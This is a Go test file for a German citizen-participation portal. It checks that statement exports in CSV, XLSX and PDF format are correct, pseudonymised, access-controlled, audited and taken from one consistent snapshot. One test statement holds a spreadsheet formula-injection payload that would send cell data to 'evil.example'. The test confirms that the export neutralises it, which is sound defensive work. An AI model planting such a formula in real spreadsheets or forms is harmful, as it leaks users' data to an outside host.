package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	appstmt "beteiligungsportal/app/statement"
	"beteiligungsportal/domain/statement"
	"beteiligungsportal/infra/postgres"
	"beteiligungsportal/web/handler"
)

var exportHeadings = []string{"Eingangsnummer", "Eingang", "Beteiligungsschritt", "Einreicher/in", "Stellungnahme",
	"Themen", "Abwägungsvorschlag", "Beschlussvorschlag", "Vermerk"}

// Columns of the assessment table, by heading.
const (
	colNumber = iota
	colReceived
	colPhase
	colSubmitter
	colText
	colTopics
	colAnswer
	colDecision
	colNote
)

// parseCSV checks the spreadsheet conventions of the CSV export and returns
// its records without the heading row, by receipt number.
func parseCSV(t *testing.T, res response) map[string][]string {
	t.Helper()
	if ct := res.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("content type %q", ct)
	}
	body, ok := bytes.CutPrefix(res.Body, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatalf("no UTF-8 byte order mark: %q", res.Body[:min(len(res.Body), 20)])
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v\n%s", err, body)
	}
	if strings.Join(recs[0], "|") != strings.Join(exportHeadings, "|") {
		t.Fatalf("headings: %q", recs[0])
	}
	out := map[string][]string{}
	for _, rec := range recs[1:] {
		out[rec[colNumber]] = rec
	}
	if len(out) != len(recs)-1 {
		t.Fatalf("receipt numbers repeat: %d records, %d numbers", len(recs)-1, len(out))
	}
	return out
}

// The assessment table of a small procedure in every format, as weighing
// staff, viewers and strangers get it.
func TestExportAssessmentTable(t *testing.T) {
	env := newEnv(t)
	clock := &fakeClock{}
	clock.Set("2026-09-01 10:00:00")
	env.clock = clock.Now
	srv := env.start(func(c *config) { c.RateLimitStatements = 1000 })
	editor := srv.client(t)
	editor.login("freiberg-editor@demo.example")
	path, public, invited := statementPlan(t, editor)
	slug := decodeProcedure(t, mustStatus(t, editor.do("GET", path, nil), 200, "procedure")).Slug
	anon := srv.client(t)

	// Received in October: an ordinary one, one that tries formula
	// injection, one withdrawn, one of the invited public body.
	clock.Set("2026-10-05 14:00:00")
	radweg := decodeReceipt(t, mustStatus(t, anon.do("POST", path+"/statements", citizen("Die Lindenallee braucht einen sicheren Radweg.")), 201, "radweg"))
	evil := citizen(`=HYPERLINK("http://evil.example/?"&A1;"Klick")`)
	evil["submitter"] = map[string]string{"name": "@Max Formel", "email": "max@example.org"}
	formula := decodeReceipt(t, mustStatus(t, anon.do("POST", path+"/statements", evil), 201, "formula"))
	gone := decodeReceipt(t, mustStatus(t, anon.do("POST", path+"/statements", citizen("Ziehe ich zurück.")), 201, "to withdraw"))
	mustStatus(t, anon.do("POST", "/api/v1/receipts/withdraw", map[string]string{"number": gone.Number, "token": gone.Token}), 200, "withdraw")
	toeb := srv.client(t)
	toeb.login("toeb@demo.example")
	zv := toeb.orgID("Zweckverband")
	body := decodeReceipt(t, mustStatus(t, toeb.do("POST", path+"/statements", map[string]any{"text": "Die Trinkwasserleitung DN 150 ist zu sichern.",
		"privacy_consent": "2026-11-01", "on_behalf_of": zv}), 201, "public body"))
	// A letter that arrived late.
	clock.Set("2026-11-03 10:00:00")
	letter := decodeReceipt(t, mustStatus(t, editor.do("POST", path+"/statements/manual", map[string]any{"channel": "letter",
		"received_at": "2026-11-02T09:30", "phase_id": public, "text": "Per Brief: Bitte mehr Parkplätze.",
		"submitter": map[string]string{"name": "Hans Brief", "address": "Postweg 1\n09599 Freiberg"}}), 201, "letter"))
	// The first one is weighed.
	one := path + "/statements/" + radweg.ID
	mustStatus(t, editor.do("PATCH", one, map[string]any{"status": "in_review", "topics": []string{"Verkehr", "Radweg"}}), 200, "review")
	mustStatus(t, editor.do("PATCH", one, map[string]any{"status": "weighed", "decision": "followed",
		"answer": "Ein Radweg wird im Plan festgesetzt."}), 200, "weigh")

	// Weighing staff get everything, in receipt order.
	res := mustStatus(t, editor.do("GET", path+"/statements/export.csv", nil), 200, "csv")
	wantDisposition := `attachment; filename="abwaegungstabelle-` + slug + `-2026-11-03.csv"`
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, wantDisposition) {
		t.Errorf("Content-Disposition %q, want %s…", cd, wantDisposition)
	}
	if cc := res.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	if cl := res.Header.Get("Content-Length"); cl != "" {
		t.Errorf("the CSV was not streamed but sent whole (Content-Length %s)", cl)
	}
	rows := parseCSV(t, res)
	if len(rows) != 5 {
		t.Fatalf("%d rows, want 5: %q", len(rows), rows)
	}
	for _, tc := range []struct {
		name   string
		number string
		col    int
		want   string
	}{
		{"received in Berlin time", radweg.Number, colReceived, "05.10.2026 14:00"},
		{"phase by its legal step", radweg.Number, colPhase, "Veröffentlichung (§\u00a03 Abs.\u00a02 BauGB)"},
		{"submitter with e-mail", radweg.Number, colSubmitter, "Erika Mustermann\nLindenallee 3, 09599 Freiberg\nerika@example.org"},
		{"text", radweg.Number, colText, "Die Lindenallee braucht einen sicheren Radweg."},
		{"topics", radweg.Number, colTopics, "Radweg; Verkehr"},
		{"answer", radweg.Number, colAnswer, "Ein Radweg wird im Plan festgesetzt."},
		{"decision in German", radweg.Number, colDecision, "berücksichtigt"},
		{"formula neutralised", formula.Number, colText, `'=HYPERLINK("http://evil.example/?"&A1;"Klick")`},
		{"name neutralised", formula.Number, colSubmitter, "'@Max Formel\nmax@example.org"},
		{"not weighed yet", formula.Number, colDecision, ""},
		{"withdrawn, marked", gone.Number, colNote, "zurückgezogen am 05.10.2026"},
		{"public body named", body.Number, colSubmitter, "Zweckverband"},
		{"authorities phase", body.Number, colPhase, "Beteiligung der Behörden (§\u00a04 Abs.\u00a02 BauGB)"},
		{"late letter", letter.Number, colNote, "verspätet eingegangen; per Brief"},
		{"letter's address", letter.Number, colSubmitter, "Hans Brief\nPostweg 1\n09599 Freiberg"},
	} {
		row, ok := rows[tc.number]
		if !ok {
			t.Errorf("%s: no row %s", tc.name, tc.number)
			continue
		}
		if got := row[tc.col]; got != tc.want && !(tc.name == "public body named" && strings.Contains(got, tc.want)) {
			t.Errorf("%s: got %q, want %q", tc.name, got, tc.want)
		}
	}

	viewer := srv.client(t)
	viewer.login("freiberg-viewer@demo.example")
	grimma := srv.client(t)
	grimma.login("grimma-admin@demo.example")

	// Pseudonyms on request, and always for viewers.
	for _, tc := range []struct {
		name  string
		c     *client
		query string
	}{
		{"editor asks for pseudonyms", editor, "?pseudonymise=true"},
		{"viewer", viewer, ""},
		{"viewer asks for names", viewer, "?pseudonymise=false"},
	} {
		res := mustStatus(t, tc.c.do("GET", path+"/statements/export.csv"+tc.query, nil), 200, tc.name)
		rows := parseCSV(t, res)
		for _, secret := range []string{"Erika", "erika@example.org", "Formel", "Hans Brief", "Postweg"} {
			if bytes.Contains(res.Body, []byte(secret)) {
				t.Errorf("%s: the export shows %q", tc.name, secret)
			}
		}
		if got := rows[radweg.Number][colSubmitter]; !strings.HasPrefix(got, "Person ") {
			t.Errorf("%s: submitter %q, want a pseudonym", tc.name, got)
		}
		if got := rows[radweg.Number][colText]; got != "Die Lindenallee braucht einen sicheren Radweg." {
			t.Errorf("%s: text %q", tc.name, got)
		}
	}

	// Filters of the list apply; refusals are problem details.
	for _, tc := range []struct {
		query string
		want  []string
	}{
		{"?timely=false", []string{letter.Number}},
		{"?withdrawn=true", []string{gone.Number}},
		{"?phase=" + invited, []string{body.Number}},
		{"?status=weighed", []string{radweg.Number}},
		{"?q=radweg&limit=1&cursor=0", []string{radweg.Number}},
	} {
		rows := parseCSV(t, mustStatus(t, editor.do("GET", path+"/statements/export.csv"+tc.query, nil), 200, tc.query))
		if len(rows) != len(tc.want) {
			t.Errorf("%s: %d rows, want %v", tc.query, len(rows), tc.want)
		}
		for _, n := range tc.want {
			if _, ok := rows[n]; !ok {
				t.Errorf("%s: %s missing", tc.query, n)
			}
		}
	}
	for _, format := range []string{"csv", "xlsx", "pdf"} {
		url := path + "/statements/export." + format
		wantProblem(t, anon.do("GET", url, nil), 401, "unauthenticated")
		wantProblem(t, grimma.do("GET", url, nil), 403, "forbidden")
		wantProblem(t, editor.do("GET", url+"?pseudonymise=ja", nil), 422, "validation")
		wantProblem(t, editor.do("GET", url+"?status=unknown", nil), 422, "validation")
		wantProblem(t, editor.do("GET", "/api/v1/procedures/"+uuid.NewString()+"/statements/export."+format, nil), 404, "not_found")
	}

	// The workbook holds the same table, with real dates and texts that stay texts.
	res = mustStatus(t, editor.do("GET", path+"/statements/export.xlsx", nil), 200, "xlsx")
	if ct := res.Header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("xlsx content type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.Contains(cd, `-2026-11-03.xlsx"`) {
		t.Errorf("xlsx Content-Disposition %q", cd)
	}
	book, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatalf("open xlsx: %v", err)
	}
	defer book.Close()
	sheet := book.GetSheetName(0)
	cells, err := book.GetRows(sheet)
	if err != nil || len(cells) != 6 || strings.Join(cells[0], "|") != strings.Join(exportHeadings, "|") {
		t.Fatalf("xlsx rows: %q, %v", cells, err)
	}
	if cells[1][colNumber] != radweg.Number || cells[1][colReceived] != "05.10.2026 14:00" || cells[1][colDecision] != "berücksichtigt" ||
		cells[2][colText] != `=HYPERLINK("http://evil.example/?"&A1;"Klick")` {
		t.Errorf("xlsx cells: %q %q", cells[1], cells[2])
	}
	if f, _ := book.GetCellFormula(sheet, "E3"); f != "" {
		t.Errorf("a statement became a formula: %q", f)
	}
	if panes, err := book.GetPanes(sheet); err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("heading row not frozen: %+v %v", panes, err)
	}
	if style, err := book.GetCellStyle(sheet, "A1"); err == nil {
		if s, err := book.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
			t.Errorf("headings not bold: %+v %v", s, err)
		}
	}

	// The PDF, loosely.
	res = mustStatus(t, editor.do("GET", path+"/statements/export.pdf", nil), 200, "pdf")
	if res.Header.Get("Content-Type") != "application/pdf" || !bytes.HasPrefix(res.Body, []byte("%PDF-")) {
		t.Fatalf("pdf: %q %q", res.Header.Get("Content-Type"), res.Body[:min(len(res.Body), 10)])
	}
	if m := regexp.MustCompile(`/Count (\d+)`).FindSubmatch(res.Body); m == nil || string(m[1]) == "0" {
		t.Errorf("pdf has no pages")
	}

	// Every export is on record with its format and size.
	admin := srv.client(t)
	admin.login("freiberg-admin@demo.example")
	trail := admin.do("GET", "/api/v1/organisations/"+editor.orgID("Freiberg")+"/audit?limit=100", nil)
	var entries struct {
		Items []struct {
			Action  string
			Details map[string]any
		}
	}
	_ = json.Unmarshal(trail.Body, &entries)
	formats := map[string]bool{}
	for _, e := range entries.Items {
		if e.Action == "statement.export" {
			formats[str(e.Details["format"])] = true
			if e.Details["complete"] != true {
				t.Errorf("export entry not complete: %v", e.Details)
			}
		}
	}
	if !formats["csv"] || !formats["xlsx"] || !formats["pdf"] {
		t.Errorf("audit trail lacks exports: %v", formats)
	}

	// A PDF of more statements than it can hold in memory is refused with
	// advice; the other formats take any number.
	fillStatements(t, env.cfg.DatabaseURL, strings.TrimPrefix(path, "/api/v1/procedures/"), public, handler.MaxPDFRows)
	p := wantProblem(t, editor.do("GET", path+"/statements/export.pdf", nil), 422, "validation")
	if !strings.Contains(str(p["detail"]), "5.000") || !strings.Contains(str(p["detail"]), "XLSX") {
		t.Errorf("too large: %v", p["detail"])
	}
	big := parseCSV(t, mustStatus(t, editor.do("GET", path+"/statements/export.csv", nil), 200, "large csv"))
	if len(big) != handler.MaxPDFRows+5 {
		t.Errorf("large csv: %d rows", len(big))
	}
}

// An export reads one snapshot: what others change while it is written, in
// rows it has not reached yet, does not show in it.
func TestExportIsOneSnapshot(t *testing.T) {
	env := newEnv(t)
	clock := &fakeClock{}
	clock.Set("2026-09-01 10:00:00")
	env.clock = clock.Now
	srv := env.start()
	editor := srv.client(t)
	editor.login("freiberg-editor@demo.example")
	path, public, _ := statementPlan(t, editor)
	clock.Set("2026-11-23 10:00:00")
	procID := strings.TrimPrefix(path, "/api/v1/procedures/")
	const n = 2500 // three batches
	fillStatements(t, env.cfg.DatabaseURL, procID, public, n)

	ctx := context.Background()
	db, err := postgres.Open(env.cfg.DatabaseURL, postgres.PoolConfig{MaxOpen: 4, MaxIdle: 4})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	svc, err := newServices(env.cfg, db, slog.New(slog.NewTextHandler(io.Discard, nil)), clock.Now)
	if err != nil {
		t.Fatal(err)
	}
	me := mustStatus(t, editor.do("GET", "/api/v1/me", nil), 200, "me").JSON()
	p, err := svc.accounts.Principal(ctx, uuid.MustParse(str(me["id"])))
	if err != nil {
		t.Fatal(err)
	}
	e, err := svc.statements.Export(ctx, p, appstmt.ExportRequest{Filter: statement.Filter{ProcedureID: uuid.MustParse(procID)}, Format: "csv"})
	if err != nil {
		t.Fatal(err)
	}
	other, err := sql.Open("pgx", env.cfg.DatabaseURL)
	if err != nil {
		t.Fatal(err)
	}
	defer other.Close()
	var answers = map[int]string{}
	count, err := e.Rows(ctx, func(r appstmt.Row) error {
		seq, _ := strconv.Atoi(r.Number[strings.LastIndex(r.Number, "-")+1:])
		answers[seq] = r.Answer
		if seq == 1 {
			// Meanwhile, someone weighs a statement of a later batch and a
			// letter is recorded.
			if _, err := other.Exec(`UPDATE statements SET answer = 'geändert', version = version + 1
				WHERE procedure_id = $1 AND seq = 2000`, procID); err != nil {
				return err
			}
			mustStatus(t, editor.do("POST", path+"/statements/manual", map[string]any{"channel": "letter",
				"received_at": "2026-10-20T09:30", "phase_id": public, "text": "Nachzügler"}), 201, "letter")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if count != n || len(answers) != n {
		t.Errorf("exported %d rows (%d distinct), want %d", count, len(answers), n)
	}
	if got := answers[2000]; got == "geändert" || !strings.HasPrefix(got, "Der Radweg") {
		t.Errorf("statement 2000 shows a change made after the export began: %q", got)
	}
	var now int
	if err := env.dbCount(procID, &now); err != nil || now != n+1 {
		t.Fatalf("the letter was not recorded: %d statements, %v", now, err)
	}
}
